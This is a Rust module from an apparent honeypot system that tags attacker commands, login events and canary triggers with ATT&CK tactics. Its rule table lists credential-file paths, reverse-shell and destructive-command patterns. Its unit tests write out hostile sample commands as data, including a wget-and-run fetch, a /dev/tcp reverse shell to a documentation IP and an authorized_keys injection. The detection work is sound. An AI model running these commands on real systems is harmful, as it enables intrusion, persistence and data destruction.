//! ATT&CK tagging of attacker activity (issue #19 item 4): a small, documented rule table that
//! turns one ingested record (event type, command text, credential use) or one canary trigger
//! into ATT&CK tactics (+ technique where it is obvious). The campaign projection maps the
//! tactic onto a UKC phase (clustering.md §4.1, [`crate::domain::clustering::campaign`]), so
//! phase hand-offs become visible on real data.
//!
//! What is deliberately **not** tagged: connection-level events (`connect`, `disconnect`,
//! `accept`, plain `request`s …). Every actor and every scanner produces them; tagged as
//! reconnaissance they would become the first phase of every operator on every decky and hide
//! every hand-off (an in-phase must open the incoming operator's work on the decky). A tag
//! says what an operator *did* on the decky.
//!
//! Rule table (first column is the stored `rule_id`):
//!
//! | rule | trigger | tactic | technique |
//! |---|---|---|---|
//! | `auth-failed` | credential submitted and refused (`outcome`/`result`/`status` failed/failure/denied/invalid, or event `login_failed`/`auth_failed`/`auth_failure`/`failed_login`) | TA0006 | T1110 Brute Force |
//! | `auth-ok` | credential accepted (`outcome` … success/accepted/ok, or event `login_success`/`auth_success`/`login_ok`) | TA0001 | T1078 Valid Accounts |
//! | `file-in` | event `file_captured`, `upload` | TA0011 | T1105 Ingress Tool Transfer |
//! | `file-out` | event `download_attempt`, `retr` | TA0010 | T1048 Exfiltration Over Alternative Protocol |
//! | `ldap-search` | event `ldap_search` | TA0007 | T1087 Account Discovery |
//! | `mail-relay` | event `rcpt_to`, `message_accepted` | TA0042 | T1584 Compromise Infrastructure |
//! | `cmd-*` | command text (command-family events, see [`COMMAND_RULES`]) | per rule | per rule |
//! | `canary-*` | canary trigger by token kind ([`tag_canary_trigger`]) | TA0006 / TA0009 | T1552 / T1005 |
//!
//! Command patterns match shell words (split on whitespace, quotes and `; | & ( ) < >`; a
//! word also matches by its basename, so `/usr/bin/wget` is `wget`) or substrings; every rule
//! fires at most once per command, several rules may fire on one command line.

use std::collections::BTreeSet;

use crate::domain::syslog::observation::command_text;
use crate::domain::syslog::Record;

/// ATT&CK enterprise tactics: id → name.
pub const TACTICS: [(&str, &str); 14] = [
    ("TA0043", "Reconnaissance"),
    ("TA0042", "Resource Development"),
    ("TA0001", "Initial Access"),
    ("TA0002", "Execution"),
    ("TA0003", "Persistence"),
    ("TA0004", "Privilege Escalation"),
    ("TA0005", "Defense Evasion"),
    ("TA0006", "Credential Access"),
    ("TA0007", "Discovery"),
    ("TA0008", "Lateral Movement"),
    ("TA0009", "Collection"),
    ("TA0011", "Command and Control"),
    ("TA0010", "Exfiltration"),
    ("TA0040", "Impact"),
];

/// Name of a tactic id (`None` for ids outside [`TACTICS`]).
pub fn tactic_name(id: &str) -> Option<&'static str> {
    TACTICS.iter().find(|(t, _)| *t == id).map(|(_, n)| *n)
}

/// One rule that fired.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct TtpMatch {
    pub rule_id: &'static str,
    pub tactic_id: &'static str,
    pub technique_id: &'static str,
    pub technique_name: &'static str,
}

/// How a command rule recognises a command.
#[derive(Debug, Clone, Copy)]
pub enum Pat {
    /// These shell words, consecutive (basename comparison for the first).
    Words(&'static [&'static str]),
    /// A substring of the command text.
    Sub(&'static str),
}

/// One command rule: any pattern matches → the tag.
#[derive(Debug, Clone, Copy)]
pub struct CommandRule {
    pub rule_id: &'static str,
    pub tactic_id: &'static str,
    pub technique_id: &'static str,
    pub technique_name: &'static str,
    pub any: &'static [Pat],
}

use Pat::{Sub, Words};

/// The command rules, in evaluation order.
pub const COMMAND_RULES: &[CommandRule] = &[
    // Discovery (TA0007)
    CommandRule {
        rule_id: "cmd-sysinfo",
        tactic_id: "TA0007",
        technique_id: "T1082",
        technique_name: "System Information Discovery",
        any: &[
            Words(&["uname"]),
            Words(&["hostnamectl"]),
            Words(&["lscpu"]),
            Words(&["nproc"]),
            Sub("/proc/version"),
            Sub("/proc/cpuinfo"),
            Sub("/etc/os-release"),
            Sub("/etc/issue"),
        ],
    },
    CommandRule {
        rule_id: "cmd-whoami",
        tactic_id: "TA0007",
        technique_id: "T1033",
        technique_name: "System Owner/User Discovery",
        any: &[
            Words(&["whoami"]),
            Words(&["id"]),
            Words(&["w"]),
            Words(&["who"]),
            Words(&["last"]),
        ],
    },
    CommandRule {
        rule_id: "cmd-accounts",
        tactic_id: "TA0007",
        technique_id: "T1087",
        technique_name: "Account Discovery",
        any: &[
            Sub("/etc/passwd"),
            Sub("/etc/group"),
            Words(&["getent"]),
            Words(&["lastlog"]),
        ],
    },
    CommandRule {
        rule_id: "cmd-netconf",
        tactic_id: "TA0007",
        technique_id: "T1016",
        technique_name: "System Network Configuration Discovery",
        any: &[
            Words(&["ifconfig"]),
            Words(&["ip", "a"]),
            Words(&["ip", "addr"]),
            Words(&["ip", "route"]),
            Words(&["route"]),
            Words(&["arp"]),
            Sub("/etc/resolv.conf"),
            Sub("/etc/hosts"),
        ],
    },
    CommandRule {
        rule_id: "cmd-netconn",
        tactic_id: "TA0007",
        technique_id: "T1049",
        technique_name: "System Network Connections Discovery",
        any: &[Words(&["netstat"]), Words(&["ss"]), Words(&["lsof"])],
    },
    CommandRule {
        rule_id: "cmd-process",
        tactic_id: "TA0007",
        technique_id: "T1057",
        technique_name: "Process Discovery",
        any: &[Words(&["ps"]), Words(&["top"]), Words(&["pstree"])],
    },
    CommandRule {
        rule_id: "cmd-files",
        tactic_id: "TA0007",
        technique_id: "T1083",
        technique_name: "File and Directory Discovery",
        any: &[
            Words(&["ls"]),
            Words(&["find"]),
            Words(&["pwd"]),
            Words(&["tree"]),
        ],
    },
    // Credential access (TA0006)
    CommandRule {
        rule_id: "cmd-shadow",
        tactic_id: "TA0006",
        technique_id: "T1003",
        technique_name: "OS Credential Dumping",
        any: &[Sub("/etc/shadow"), Words(&["mimikatz"])],
    },
    CommandRule {
        rule_id: "cmd-unsecured-creds",
        tactic_id: "TA0006",
        technique_id: "T1552",
        technique_name: "Unsecured Credentials",
        any: &[
            Sub(".ssh/id_"),
            Sub(".aws/credentials"),
            Sub(".bash_history"),
            Sub(".git-credentials"),
            Sub("/.env"),
        ],
    },
    // Persistence (TA0003)
    CommandRule {
        rule_id: "cmd-cron",
        tactic_id: "TA0003",
        technique_id: "T1053",
        technique_name: "Scheduled Task/Job",
        any: &[
            Words(&["crontab"]),
            Sub("/etc/cron"),
            Sub("/var/spool/cron"),
        ],
    },
    CommandRule {
        rule_id: "cmd-authorized-keys",
        tactic_id: "TA0003",
        technique_id: "T1098",
        technique_name: "Account Manipulation",
        any: &[Sub("authorized_keys")],
    },
    CommandRule {
        rule_id: "cmd-create-account",
        tactic_id: "TA0003",
        technique_id: "T1136",
        technique_name: "Create Account",
        any: &[Words(&["useradd"]), Words(&["adduser"])],
    },
    CommandRule {
        rule_id: "cmd-service",
        tactic_id: "TA0003",
        technique_id: "T1543",
        technique_name: "Create or Modify System Process",
        any: &[Words(&["systemctl", "enable"]), Sub("/etc/systemd/system/")],
    },
    CommandRule {
        rule_id: "cmd-logon-script",
        tactic_id: "TA0003",
        technique_id: "T1037",
        technique_name: "Boot or Logon Initialization Scripts",
        any: &[Sub("/etc/rc.local"), Sub(".bashrc"), Sub("/etc/profile")],
    },
    // Privilege escalation (TA0004)
    CommandRule {
        rule_id: "cmd-sudo",
        tactic_id: "TA0004",
        technique_id: "T1548",
        technique_name: "Abuse Elevation Control Mechanism",
        any: &[
            Words(&["sudo"]),
            Words(&["su"]),
            Words(&["chmod", "+s"]),
            Words(&["chmod", "u+s"]),
        ],
    },
    // Defense evasion (TA0005)
    CommandRule {
        rule_id: "cmd-clear-traces",
        tactic_id: "TA0005",
        technique_id: "T1070",
        technique_name: "Indicator Removal",
        any: &[
            Words(&["history", "-c"]),
            Sub("unset HISTFILE"),
            Sub("HISTFILE=/dev/null"),
            Words(&["shred"]),
            Sub("rm -rf /var/log"),
            Sub("/var/log/wtmp"),
        ],
    },
    CommandRule {
        rule_id: "cmd-impair-defenses",
        tactic_id: "TA0005",
        technique_id: "T1562",
        technique_name: "Impair Defenses",
        any: &[
            Words(&["setenforce", "0"]),
            Words(&["ufw", "disable"]),
            Words(&["iptables", "-F"]),
            Words(&["systemctl", "stop"]),
        ],
    },
    CommandRule {
        rule_id: "cmd-perms",
        tactic_id: "TA0005",
        technique_id: "T1222",
        technique_name: "File and Directory Permissions Modification",
        any: &[Words(&["chattr"]), Words(&["chmod", "777"])],
    },
    // Execution (TA0002)
    CommandRule {
        rule_id: "cmd-interpreter",
        tactic_id: "TA0002",
        technique_id: "T1059",
        technique_name: "Command and Scripting Interpreter",
        any: &[
            Words(&["sh", "-c"]),
            Words(&["bash", "-c"]),
            Sub("| sh"),
            Sub("|sh"),
            Sub("| bash"),
            Sub("|bash"),
            Words(&["python", "-c"]),
            Words(&["python3", "-c"]),
            Words(&["perl", "-e"]),
        ],
    },
    // Command and control (TA0011)
    CommandRule {
        rule_id: "cmd-tool-transfer",
        tactic_id: "TA0011",
        technique_id: "T1105",
        technique_name: "Ingress Tool Transfer",
        any: &[
            Words(&["wget"]),
            Words(&["curl"]),
            Words(&["tftp"]),
            Words(&["ftpget"]),
        ],
    },
    CommandRule {
        rule_id: "cmd-reverse-shell",
        tactic_id: "TA0011",
        technique_id: "T1095",
        technique_name: "Non-Application Layer Protocol",
        any: &[
            Sub("/dev/tcp/"),
            Sub("/dev/udp/"),
            Words(&["nc", "-e"]),
            Words(&["ncat", "-e"]),
            Words(&["socat"]),
            Words(&["mkfifo"]),
        ],
    },
    // Lateral movement (TA0008)
    CommandRule {
        rule_id: "cmd-remote-services",
        tactic_id: "TA0008",
        technique_id: "T1021",
        technique_name: "Remote Services",
        any: &[Words(&["ssh"]), Words(&["sshpass"]), Words(&["rdesktop"])],
    },
    // Collection (TA0009)
    CommandRule {
        rule_id: "cmd-archive",
        tactic_id: "TA0009",
        technique_id: "T1560",
        technique_name: "Archive Collected Data",
        any: &[
            Words(&["tar", "czf"]),
            Words(&["tar", "cf"]),
            Words(&["tar", "-czf"]),
            Words(&["tar", "-cf"]),
            Words(&["zip"]),
            Words(&["7z", "a"]),
        ],
    },
    CommandRule {
        rule_id: "cmd-local-data",
        tactic_id: "TA0009",
        technique_id: "T1005",
        technique_name: "Data from Local System",
        any: &[Words(&["mysqldump"]), Words(&["pg_dump"]), Sub("/var/www/")],
    },
    // Exfiltration (TA0010)
    CommandRule {
        rule_id: "cmd-exfil",
        tactic_id: "TA0010",
        technique_id: "T1048",
        technique_name: "Exfiltration Over Alternative Protocol",
        any: &[
            Words(&["curl", "-T"]),
            Sub("--upload-file"),
            Sub("curl -F"),
            Sub("-d @"),
        ],
    },
    // Impact (TA0040)
    CommandRule {
        rule_id: "cmd-miner",
        tactic_id: "TA0040",
        technique_id: "T1496",
        technique_name: "Resource Hijacking",
        any: &[
            Words(&["xmrig"]),
            Words(&["minerd"]),
            Sub("stratum+tcp"),
            Sub("cryptonight"),
        ],
    },
    CommandRule {
        rule_id: "cmd-destroy",
        tactic_id: "TA0040",
        technique_id: "T1485",
        technique_name: "Data Destruction",
        any: &[
            Words(&["rm", "-rf", "/"]),
            Words(&["mkfs"]),
            Sub("of=/dev/sd"),
        ],
    },
];

const AUTH_FAILED_EVENTS: [&str; 5] = [
    "login_failed",
    "auth_failed",
    "auth_failure",
    "failed_login",
    "login_failure",
];
const AUTH_OK_EVENTS: [&str; 4] = ["login_success", "auth_success", "login_ok", "auth_ok"];
const OUTCOME_KEYS: [&str; 3] = ["outcome", "result", "status"];
const FAILED_OUTCOMES: [&str; 6] = ["failed", "failure", "fail", "denied", "invalid", "rejected"];
const OK_OUTCOMES: [&str; 4] = ["success", "accepted", "ok", "succeeded"];

const fn rule(
    rule_id: &'static str,
    tactic_id: &'static str,
    technique_id: &'static str,
    technique_name: &'static str,
) -> TtpMatch {
    TtpMatch {
        rule_id,
        tactic_id,
        technique_id,
        technique_name,
    }
}

const AUTH_FAILED: TtpMatch = rule("auth-failed", "TA0006", "T1110", "Brute Force");
const AUTH_OK: TtpMatch = rule("auth-ok", "TA0001", "T1078", "Valid Accounts");
/// Event-type rules: event types → tag.
const EVENT_RULES: [(&[&str], TtpMatch); 4] = [
    (
        &["file_captured", "upload"],
        rule("file-in", "TA0011", "T1105", "Ingress Tool Transfer"),
    ),
    (
        &["download_attempt", "retr"],
        rule(
            "file-out",
            "TA0010",
            "T1048",
            "Exfiltration Over Alternative Protocol",
        ),
    ),
    (
        &["ldap_search"],
        rule("ldap-search", "TA0007", "T1087", "Account Discovery"),
    ),
    (
        &["rcpt_to", "message_accepted"],
        rule("mail-relay", "TA0042", "T1584", "Compromise Infrastructure"),
    ),
];

fn is_separator(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            ';' | '|' | '&' | '(' | ')' | '<' | '>' | '"' | '\'' | '`'
        )
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn words_match(words: &[&str], pat: &[&str]) -> bool {
    let Some((first, rest)) = pat.split_first() else {
        return false;
    };
    words.windows(pat.len()).any(|w| {
        (w[0] == *first || basename(w[0]) == *first) && w[1..].iter().zip(rest).all(|(a, b)| a == b)
    })
}

/// The command rules that fire on one command line, in table order.
pub fn tag_command(command: &str) -> Vec<TtpMatch> {
    let words: Vec<&str> = command
        .split(is_separator)
        .filter(|w| !w.is_empty())
        .collect();
    COMMAND_RULES
        .iter()
        .filter(|r| {
            r.any.iter().any(|p| match p {
                Words(pat) => words_match(&words, pat),
                Sub(s) => command.contains(s),
            })
        })
        .map(|r| TtpMatch {
            rule_id: r.rule_id,
            tactic_id: r.tactic_id,
            technique_id: r.technique_id,
            technique_name: r.technique_name,
        })
        .collect()
}

/// Name of a technique id any rule of the table can produce.
pub fn technique_name(id: &str) -> Option<&'static str> {
    COMMAND_RULES
        .iter()
        .map(|r| (r.technique_id, r.technique_name))
        .chain(
            EVENT_RULES
                .iter()
                .map(|(_, m)| (m.technique_id, m.technique_name)),
        )
        .chain(
            [
                AUTH_OK,
                AUTH_FAILED,
                tag_canary_trigger("ssh_key"),
                tag_canary_trigger(""),
            ]
            .into_iter()
            .map(|m| (m.technique_id, m.technique_name)),
        )
        .find(|(t, _)| *t == id)
        .map(|(_, n)| n)
}

/// Whether a credential was submitted, and whether it was accepted: `Some(true)` accepted,
/// `Some(false)` refused or unknown outcome of a submitted secret, `None` no credential use.
fn credential_use(rec: &Record) -> Option<bool> {
    let et = rec.event_type.as_str();
    if AUTH_FAILED_EVENTS.contains(&et) {
        return Some(false);
    }
    if AUTH_OK_EVENTS.contains(&et) {
        return Some(true);
    }
    let f = rec.fields();
    let outcome = OUTCOME_KEYS
        .iter()
        .find_map(|k| f.get_nonempty(k))
        .map(str::to_ascii_lowercase);
    let submitted = f.contains_key("secret_b64") || f.contains_key("password");
    match outcome.as_deref() {
        Some(o) if OK_OUTCOMES.contains(&o) && submitted => Some(true),
        Some(o) if FAILED_OUTCOMES.contains(&o) && submitted => Some(false),
        // A submitted secret without a known outcome is an attempt (brute force family).
        _ if submitted => Some(false),
        _ => None,
    }
}

/// Every tag one ingested record earns, deduplicated, in rule order (credential use, event
/// type, command rules).
pub fn tag_record(rec: &Record) -> Vec<TtpMatch> {
    let mut out: Vec<TtpMatch> = Vec::new();
    match credential_use(rec) {
        Some(true) => out.push(AUTH_OK),
        Some(false) => out.push(AUTH_FAILED),
        None => {}
    }
    let et = rec.event_type.as_str();
    for (types, m) in &EVENT_RULES {
        if types.contains(&et) {
            out.push(*m);
        }
    }
    if let Some(cmd) = command_text(rec) {
        out.extend(tag_command(&cmd));
    }
    let mut seen = BTreeSet::new();
    out.retain(|m| seen.insert(m.rule_id));
    out
}

/// Tag of a canary trigger by token kind: credential bait (`aws_creds`, `env_file`,
/// `ssh_key`, `git_config`) → T1552 Unsecured Credentials (TA0006); documents and beacons
/// (`honeydoc*`, `fingerprint_*`, anything else) → T1005 Data from Local System (TA0009).
pub fn tag_canary_trigger(kind: &str) -> TtpMatch {
    match kind {
        "aws_creds" | "env_file" | "ssh_key" | "git_config" => rule(
            "canary-credential",
            "TA0006",
            "T1552",
            "Unsecured Credentials",
        ),
        _ => rule(
            "canary-document",
            "TA0009",
            "T1005",
            "Data from Local System",
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::clustering::campaign::ukc_phase_for_tactic;
    use crate::domain::syslog::parse_line;

    fn ids(v: &[TtpMatch]) -> Vec<&'static str> {
        v.iter().map(|m| m.technique_id).collect()
    }

    fn line(event: &str, sd: &str, msg: &str) -> Record {
        parse_line(&format!(
            "<134>1 2026-05-14T09:20:10+00:00 web-01 ssh - {event} [relay@55555 {sd}] {msg}"
        ))
        .expect("parses")
    }

    #[test]
    fn every_rule_tactic_is_known_and_maps_to_a_phase() {
        let mut all: Vec<TtpMatch> = COMMAND_RULES
            .iter()
            .map(|r| rule(r.rule_id, r.tactic_id, r.technique_id, r.technique_name))
            .collect();
        all.extend(EVENT_RULES.iter().map(|(_, m)| *m));
        all.extend([AUTH_OK, AUTH_FAILED, tag_canary_trigger("ssh_key")]);
        all.push(tag_canary_trigger("honeydoc"));
        let mut rule_ids = BTreeSet::new();
        for m in all {
            assert!(tactic_name(m.tactic_id).is_some(), "{m:?}");
            assert!(ukc_phase_for_tactic(m.tactic_id).is_some(), "{m:?}");
            assert!(m.technique_id.starts_with('T') && !m.technique_id.contains('.'));
            assert!(
                rule_ids.insert(m.rule_id),
                "duplicate rule id {}",
                m.rule_id
            );
        }
    }

    #[test]
    fn discovery_commands_are_discovery() {
        assert_eq!(ids(&tag_command("uname -a; id")), ["T1082", "T1033"]);
        assert_eq!(ids(&tag_command("cat /etc/passwd")), ["T1087"]);
        assert_eq!(ids(&tag_command("/sbin/ifconfig -a")), ["T1016"]);
        assert_eq!(ids(&tag_command("ps aux|grep x")), ["T1057"]);
    }

    #[test]
    fn hand_over_commands_are_c2_or_persistence() {
        let t = tag_command("wget http://203.0.113.9/x.sh -O /tmp/x.sh && sh /tmp/x.sh");
        assert_eq!(ids(&t), ["T1105"]);
        assert_eq!(t[0].tactic_id, "TA0011");
        let t = tag_command("(crontab -l; echo '* * * * * /tmp/x') | crontab -");
        assert_eq!(ids(&t), ["T1053"]);
        let t = tag_command("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys");
        assert_eq!(ids(&t), ["T1098"]);
        let t = tag_command("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        assert_eq!(ids(&t), ["T1095"]);
        let t = tag_command("curl -s http://x/i.sh | sh");
        assert_eq!(ids(&t), ["T1059", "T1105"]);
    }

    #[test]
    fn words_are_words_not_substrings() {
        assert!(
            tag_command("identify image.png").is_empty(),
            "id ⊄ identify"
        );
        assert!(tag_command("echo hello").is_empty());
        assert!(tag_command("").is_empty());
        assert_eq!(ids(&tag_command("/usr/bin/wget x")), ["T1105"]);
        assert_eq!(ids(&tag_command("rm -rf / --no-preserve-root")), ["T1485"]);
        assert!(tag_command("rm -rf /tmp/x").is_empty());
    }

    #[test]
    fn records_tag_credentials_events_and_commands() {
        let r = line("command", r#"src="203.0.113.5" command="uname -a""#, "");
        assert_eq!(ids(&tag_record(&r)), ["T1082"]);
        let r = parse_line(
            "<134>1 2026-05-14T09:20:10+00:00 web-01 bash - - - CMD uid=0 src=203.0.113.5 pwd=/root cmd=whoami",
        )
        .expect("bash line");
        assert_eq!(ids(&tag_record(&r)), ["T1033"]);
        let r = line(
            "auth",
            r#"src="203.0.113.5" username="root" secret_b64="cm9vdA==" outcome="failed""#,
            "",
        );
        assert_eq!(ids(&tag_record(&r)), ["T1110"]);
        let r = line(
            "auth",
            r#"src="203.0.113.5" username="root" secret_b64="cm9vdA==" outcome="success""#,
            "",
        );
        let t = tag_record(&r);
        assert_eq!((t[0].technique_id, t[0].tactic_id), ("T1078", "TA0001"));
        let r = line("file_captured", r#"src="203.0.113.5" stored_as="a""#, "");
        assert_eq!(ids(&tag_record(&r)), ["T1105"]);
        let r = line("connect", r#"src="203.0.113.5""#, "");
        assert!(tag_record(&r).is_empty(), "connections are not tagged");
    }

    #[test]
    fn canary_kinds() {
        assert_eq!(tag_canary_trigger("aws_creds").tactic_id, "TA0006");
        assert_eq!(tag_canary_trigger("honeydoc_pdf").tactic_id, "TA0009");
    }
}
